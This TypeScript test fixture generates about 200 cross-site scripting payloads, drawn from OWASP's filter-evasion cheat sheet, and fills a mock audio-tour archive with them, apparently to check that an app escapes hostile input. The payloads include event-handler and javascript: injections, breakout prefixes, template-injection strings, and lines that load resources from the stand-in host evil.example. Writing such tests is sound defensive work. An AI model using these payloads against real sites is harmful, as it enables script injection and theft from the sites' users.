/**
 * Texts that run a script where a page takes them for mark-up, for an address or for code: 200 of
 * them, by crossing what is run with where it breaks out. Each calls `xss(n)`.
 *
 * Source: the kinds of OWASP's XSS Filter Evasion Cheat Sheet.
 */

import { makeStop, makeTour } from "./tours.ts";

/** How a text gets out of where it stands. */
const BREAKS = ["", '">', "'>", "</textarea>", "</title>", "</script>", "--></style>", "]]>"];

/** What runs a script once it is mark-up; `$` is the call. */
const MARKUP = [
  "<script>$</script>",
  "<ScRiPt>$</sCrIpT>",
  "<img src=x onerror=$>",
  "<img/src=x/onerror=$>",
  "<svg onload=$>",
  "<svg><script>$</script></svg>",
  "<svg><animate onbegin=$ attributeName=x dur=1s>",
  "<body onload=$>",
  "<details open ontoggle=$>x</details>",
  "<input autofocus onfocus=$>",
  "<iframe srcdoc='<script>parent.$</script>'></iframe>",
  "<iframe src=javascript:parent.$></iframe>",
  "<audio src=x onerror=$></audio>",
  "<video><source onerror=$></video>",
  "<object data=javascript:$></object>",
  "<embed src=javascript:$>",
  "<math><mtext></p><img src=x onerror=$>",
  "<x-island data-name=toaster data-props='{}' onclick=$>",
  "<template><img src=x onerror=$></template>",
  "<base href=https://evil.example/>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=javascript:$'>",
];

/** What runs where a text becomes a part of code or of an attribute. */
const CODE = [
  "javascript:$",
  "JaVaScRiPt:$",
  "java\tscript:$",
  "\u0001javascript:$",
  "data:text/html,<script>$</script>",
  "vbscript:$",
  "blob:javascript:$",
  '" onmouseover="$" autofocus onfocus="$',
  "' onclick='$",
  '";$;//',
  "';$;//",
  "\\';$;//",
  "${$}",
  "{{constructor.constructor('$')()}}",
  "\u2028$\u2029",
  "&lt;img src=x onerror=$&gt;",
];

/** The payload with this number calls `xss` with it. */
export const PAYLOADS: string[] = [
  ...CODE,
  ...BREAKS.flatMap((start) => MARKUP.map((one) => start + one)),
].map((one, n) => one.replaceAll("$", () => `xss(${n})`));

/** One after the other, as often as it is asked for. */
export function payloads() {
  let n = 0;
  return () => PAYLOADS[n++ % PAYLOADS.length];
}

/** An archive of 40 stops, all texts and addresses of which are payloads. */
export function hostileForm(next: () => string) {
  const audioStops = Array.from({ length: 40 }, () =>
    makeStop({
      title: next(),
      description: next(),
      audioUrl: next(),
      audioDuration: next(),
      imageUrl: next(),
      imageAlt: next(),
      imageCredit: next(),
      oldImageUrl: next(),
      oldImageAlt: next(),
      oldImageCredit: next(),
      oldImageYear: next(),
    }));
  return makeTour({
    title: next(),
    description: next(),
    imageUrl: next(),
    duration: next(),
    creatorName: next(),
    accessNote: next(),
    oldMaps: [{
      title: next(),
      year: next(),
      credit: next(),
      scanUrl: next(),
      imageUrl: next(),
      edges: { south: 0, west: 0, north: 1, east: 1 },
      transformation: "polynomial",
      points: [{ x: 0, y: 0, latitude: 0, longitude: 0 }],
    }],
    audioStops,
  });
}
